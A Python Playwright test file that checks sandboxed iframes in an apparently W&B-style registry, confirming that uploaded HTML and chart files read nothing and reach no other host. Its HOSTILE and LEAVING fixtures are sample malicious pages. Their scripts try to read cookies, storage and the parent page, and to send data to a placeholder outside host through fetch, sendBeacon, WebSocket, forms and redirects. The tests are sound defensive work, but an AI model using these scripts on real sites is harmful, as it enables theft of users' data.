"""An uploaded page is shown in a frame. It reads nothing of the registry and reaches no host, not even with scripts."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from .conftest import Site, Window

HERE = Path(__file__).parent

HOSTILE = """<!doctype html><link rel="stylesheet" href="THERE/css"><img src="THERE/img">
<h1>uploaded</h1><pre id="told"></pre>
<form id="form" action="THERE/form" method="post"><input name="x"></form><iframe src="THERE/frame"></iframe>
<script>
const told = [];
async function attempt(name, what) {
  try { told.push(name + ": reached " + await what()); } catch (error) { told.push(name + ": refused"); }
}
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.body.innerHTML);
  await attempt("parent's address", () => parent.location.href);
  await attempt("page of the registry", async () => (await fetch("HERE/settings")).text());
  await attempt("elsewhere", async () => (await fetch("THERE/fetch", {mode: "no-cors"})).type);
  navigator.sendBeacon("THERE/beacon", "x");
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket("THERE/socket".replace("http", "ws")); socket.onopen = yes; socket.onerror = no; }));
  await attempt("top", () => { top.location = "THERE/top"; return top.location.href; });
  await attempt("window", () => open("THERE/window").document);
  new Image().src = "THERE/image";
  document.getElementById("form").submit();
  document.getElementById("told").textContent = told.join("\\n");
})();
</script>"""
LEAVING = """<!doctype html><h1>leaving</h1><script>location = "THERE/away?" + document.title;</script>"""
LOG = """
import sys, wandb
with wandb.init(project="sandbox", id="hostile") as run:
    run.log({"page": wandb.Html(sys.argv[1], inject=False)})
    artifact = wandb.Artifact("pages", "report")
    with artifact.new_file("hostile.html") as file:
        file.write(sys.argv[1])
    with artifact.new_file("leaving.html") as file:
        file.write(sys.argv[2])
    run.log_artifact(artifact).wait()
"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host, and the paths that it was asked for."""
    asked: list[str] = []

    class Other(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, format: str, *_arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


@pytest.fixture(scope="module")
def logged(site: Site, elsewhere: tuple[str, list[str]]) -> Site:
    pages = [text.replace("THERE", elsewhere[0]).replace("HERE", site.url) for text in (HOSTILE, LEAVING)]
    site.script("-c", LOG, *pages)
    return site


def test_a_hostile_page_reads_nothing_and_reaches_nobody(
    logged: Site, window: Window, elsewhere: tuple[str, list[str]]
):
    page = window.open("/local/sandbox/artifacts/report/pages/v0/files/hostile.html")
    framed = page.frame_locator("iframe.sandbox")
    expect(framed.get_by_role("heading", name="uploaded")).to_be_visible()
    expect(framed.locator("#told")).to_have_text("")  # no script runs before somebody asks for it
    page.get_by_role("link", name="Run its scripts").click()
    expect(page.get_by_text("In a sandbox: no network, no cookies.")).to_be_visible()
    told = framed.locator("#told")
    expect(told).to_contain_text("window:")
    text = told.inner_text()
    assert "reached" not in text, text
    assert elsewhere[1] == []
    assert page.url.startswith(window.url), "the page around it stays"
    window.faults.clear()  # each refusal is told on the console


@pytest.mark.slow
def test_a_page_that_leaves_its_frame_gets_nowhere(logged: Site, window: Window, elsewhere: tuple[str, list[str]]):
    page = window.open("/local/sandbox/artifacts/report/pages/v0/files/leaving.html?scripts=1")
    expect(page.frame_locator("iframe.sandbox").get_by_role("heading", name="leaving")).to_have_count(0)
    assert elsewhere[1] == []
    window.faults.clear()


@pytest.mark.slow
def test_a_page_among_media_is_framed_without_scripts(logged: Site, window: Window, elsewhere: tuple[str, list[str]]):
    page = window.open("/local/sandbox/runs/hostile/media")
    frame = page.locator("iframe.sandbox")
    frame.scroll_into_view_if_needed()
    expect(page.frame_locator("iframe.sandbox").get_by_role("heading", name="uploaded")).to_be_visible()
    assert frame.get_attribute("sandbox") == ""
    window.check_width()
    assert elsewhere[1] == []
    window.faults.clear()


@pytest.mark.slow
def test_the_frames_address_opened_by_itself_is_a_sandbox_too(logged: Site, window: Window):
    answer = window.page.request.get(
        f"{window.url}/local/sandbox/artifacts/report/pages/v0/frame/hostile.html?scripts=1"
    )
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'")
    assert "allow-same-origin" not in policy
    other = window.page.request.get(f"{window.url}/local/vision/artifacts/dataset/digits/v1/frame/kept.txt")
    assert other.status == 404


@pytest.fixture(scope="module")
def drawn(site: Site, elsewhere: tuple[str, list[str]]) -> Site:
    site.script(str(HERE / "seed_drawings.py"), str(HERE / "figures/hostile.bokeh.json"), elsewhere[0])
    return site


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "inside", "said"),
    [
        ("curve", ".main-svg .scatter", "Not drawn here: scattergeo."),
        ("bokeh", ".bk-Figure", ""),
        pytest.param("cloud", "canvas", "Boxes: car", marks=pytest.mark.slow),  # without a graphics card WebGL is slow
        pytest.param("space", "canvas", "", marks=pytest.mark.slow),
        pytest.param("mesh", "canvas", "", marks=pytest.mark.slow),
        pytest.param("scene", "canvas", "Drawn without its textures.", marks=pytest.mark.slow),
        pytest.param("water", "canvas", "", marks=pytest.mark.slow),
        ("own bars_table", ".mark-rect path", ""),
        ("Custom Chart Tables/own dots_table", ".mark-symbol path", "Not loaded: "),
    ],
)
def test_a_library_draws_a_file_and_runs_nothing_of_it(
    drawn: Site, window: Window, elsewhere: tuple[str, list[str]], key: str, inside: str, said: str
):
    page = window.open(f"/local/sandbox/runs/drawn/media?key={key}")
    assert page.locator("iframe.sandbox").first.get_attribute("sandbox") == "allow-scripts"
    frame = page.frame_locator("iframe.sandbox").first
    expect(frame.locator("#drawing[data-drawn]")).to_be_visible()
    expect(frame.locator(inside).first).to_be_visible()
    expect(frame.locator("body")).to_contain_text(said)
    assert frame.locator("body").get_attribute("data-ran") is None
    assert elsewhere[1] == []
    expect(page.get_by_role("link", name="Download")).to_be_visible()
    window.faults.clear()  # what the policy refused of a hostile file is told on the console


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "said"),
    [
        ("own script_table", "This file can't be drawn: "),
        ("own lack_table", "can't be drawn: its chart asks for the field 'y', and the plot has no column for it."),
    ],
)
def test_a_chart_that_cannot_be_drawn_says_why(drawn: Site, window: Window, key: str, said: str):
    page = window.open(f"/local/sandbox/runs/drawn/media?key={key}")
    frame = page.frame_locator("iframe.sandbox").first
    expect(frame.locator("body")).to_contain_text(said)
    assert frame.locator("body").get_attribute("data-ran") is None
    window.faults.clear()


@pytest.mark.slow
def test_a_chart_that_is_not_here_is_named_and_its_table_shown(drawn: Site, window: Window):
    page = window.open("/local/sandbox/runs/drawn/media?key=not there_table")
    expect(page.get_by_text("drawn by the custom chart 'someone/else', which is not in this registry")).to_be_visible()
    expect(page.get_by_role("link", name="Open table")).to_be_visible()
    window.check_access()


@pytest.mark.slow
def test_each_file_of_a_key_has_a_frame_and_its_page_one_too(drawn: Site, window: Window):
    page = window.open("/local/sandbox/runs/drawn/media?key=points")
    expect(page.locator("iframe.sandbox")).to_have_count(2)
    window.check_width()
    address = page.get_by_role("link", name="Open points").first.get_attribute("href")
    assert address
    window.open(address)
    expect(page.frame_locator("iframe.sandbox").locator("#drawing[data-drawn]")).to_be_visible()
    policy = page.request.get(f"{window.url}{address.replace('/files/', '/frame/')}").headers["content-security-policy"]
    assert "sandbox allow-scripts; default-src 'none'; script-src 'nonce-" in policy
    assert "unsafe-eval" not in policy
    assert "connect-src 'none'" in policy
